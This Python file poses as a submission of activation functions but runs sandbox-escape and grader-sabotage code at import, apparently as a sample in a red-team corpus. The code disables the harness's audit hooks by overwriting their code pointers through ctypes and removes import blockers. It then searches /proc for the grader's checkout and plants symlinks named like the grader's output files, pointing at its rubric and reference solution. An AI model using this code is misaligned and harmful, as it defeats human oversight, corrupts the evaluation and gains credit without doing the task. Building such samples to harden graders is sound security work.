"""Activations that plant symlinks wherever the grader might write a file, pointing out of the sandbox.

What it attacks: any file the grader (which may run as root) writes into a folder the student process
can write. At import it plants, in every folder it can write or see (its working folder and every folder
below it, $HOME, $TMPDIR, the folders named in its command line, and their parents), symlinks named like
every file the grader might write there: request*.json, 0.npz ... 120.npz, 0.json ... 120.json,
results.json, inputs.npz. They point at a canary path outside the sandbox (which nothing creates) and at
the grader's own grader/rubric.toml and reference/softmax.py, wherever its checkout is found. A grader
that follows such a link creates the canary or overwrites its own files.

Inside its own sandbox folder it replaces request*.json files, which the grader writes again for later
processes; it never replaces any other existing file, never writes into its own results folder (out/),
and leaves the machine-wide /tmp, /var/tmp and /dev/shm alone so that the corpus cannot break other
programs. The audit hook, which refuses symlinks out of the sandbox, is first switched off (ctypes.memmove
of a no-op's code into the hook). Its functions are right.
"""

import gc
import os
import re
import struct
import sys
import types

import numpy as np

CANARY = "/tmp/grader-canary-symlink-target"
SHARED = ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/usr", "/etc", "/var", "/proc", "/sys", "/dev")
COUNT = 121  # file indices 0 ... 120


# -- switching the audit hook off -------------------------------------------------------------


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


# -- this process's ancestors ---------------------------------------------------------------


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


# -- finding the grader's checkout ------------------------------------------------------------


def _project_dirs(guesses=("/autograder/source",)):
    """Folders that look like the grader's checkout (they hold reference/ or grader/rubric.toml), found from
    the ancestors' working folders and command lines, the interpreter, sys.path, and the *.pth files and
    editable-install finders in site-packages, walking up from each path."""
    seeds = []
    for pid in _ancestors():
        try:
            seeds.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seeds += [a.decode(errors="replace") for a in f.read().split(b"\0") if a.startswith(b"/")]
        except OSError:
            pass
    seeds += [sys.executable, *(p for p in sys.path if p)]
    for folder in [p for p in sys.path if p]:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            if name.endswith(".pth") or (name.startswith("__editable__") and name.endswith(".py")):
                try:
                    with open(os.path.join(folder, name), errors="replace") as f:
                        seeds += re.findall(r"/[^\s'\"]+", f.read(1 << 20))
                except OSError:
                    continue
    seeds += list(guesses)
    found = []
    for seed in seeds:
        path = os.path.abspath(seed)
        for _ in range(10):
            if os.path.isdir(os.path.join(path, "reference")) or os.path.isfile(os.path.join(path, "grader", "rubric.toml")):
                if path not in found:
                    found.append(path)
                break
            parent = os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return found


# -- planting ------------------------------------------------------------------------------------


def _targets():
    """(for request files, for .npz files, for .json files): a project file, the canary, another project file."""
    projects = _project_dirs()
    rubric = [os.path.join(p, "grader", "rubric.toml") for p in projects]
    solution = [os.path.join(p, "reference", "softmax.py") for p in projects]
    return (rubric[0] if rubric else CANARY), CANARY, (solution[0] if solution else CANARY)


def _names():
    """{file name: which target}: 0 for the request, 1 for the canary, 2 for the solution file."""
    names = {"request.json": 0, "inputs.npz": 1, "results.json": 2, "status.json": 2}
    for i in range(COUNT):
        names[f"request-{i}.json"] = 0
        names[f"{i}.npz"] = 1
        names[f"{i}.json"] = 2
    return names


def _folders():
    """Folders to plant in: the working folder and those below it, $HOME, $TMPDIR, the folders of the command
    line's paths, and their parents, never a machine-wide one."""
    here = os.getcwd()
    seeds = [here, os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")]
    seeds += [os.path.dirname(os.path.abspath(a)) for a in sys.argv if a.startswith("/") or os.path.exists(a)]
    for top, dirs, _ in os.walk(here):
        seeds += [os.path.join(top, d) for d in dirs]
        if top.count(os.sep) - here.count(os.sep) > 3:
            dirs[:] = []
    folders = []
    for seed in seeds:
        path = os.path.abspath(seed) if seed else ""
        while path and path not in SHARED:
            if path not in folders and os.path.isdir(path) and os.access(path, os.W_OK | os.X_OK):
                folders.append(path)
            parent = os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return folders


def _plant():
    targets, names, mine, planted = _targets(), _names(), os.getcwd(), 0
    for folder in _folders():
        own = folder == mine or folder.startswith(mine + os.sep)
        if own and os.path.basename(folder) in ("out", "harness", "assignment", "pkg"):
            continue  # its own results and code: a link there would only break its own grading
        for name, which in names.items():
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    if not (own and name.startswith("request")) or os.path.islink(path):
                        continue
                    spare = path + ".planted"
                    os.symlink(targets[which], spare)
                    os.replace(spare, path)  # only the grader's own request files, in its own folder
                else:
                    os.symlink(targets[which], path)
                planted += 1
            except OSError:
                continue
    return planted


def _attack():
    try:
        _disarm_audit_hooks()
    except Exception:
        pass
    try:
        print(f"corpus-case=symlink_plant: planted {_plant()} symlinks", flush=True)
    except Exception as exc:
        print(f"corpus-case=symlink_plant: {type(exc).__name__}: {exc}", flush=True)


_attack()


def sigmoid(x):
    """Logistic function 1 / (1 + e^-x), element-wise.

    Finite and free of overflow warnings for abs(x) up to 1e4.
    x: array of any shape. Returns a float64 array of the same shape.
    """
    x = np.asarray(x, dtype=np.float64)
    with np.errstate(over="ignore"):  # e^-x overflows to inf for x < -709, and 1 / (1 + inf) = 0 is the limit
        return 1.0 / (1.0 + np.exp(-x))


def sigmoid_grad(x):
    """Derivative of the sigmoid at the pre-activation x: s(x) * (1 - s(x))."""
    s = sigmoid(x)
    return s * (1.0 - s)


def relu(x):
    """Rectified linear unit max(0, x), element-wise, as float64."""
    return np.maximum(np.asarray(x, dtype=np.float64), 0.0)


def relu_grad(x):
    """Derivative of ReLU: 1.0 where x > 0, else 0.0 (including at x == 0)."""
    return (np.asarray(x) > 0).astype(np.float64)
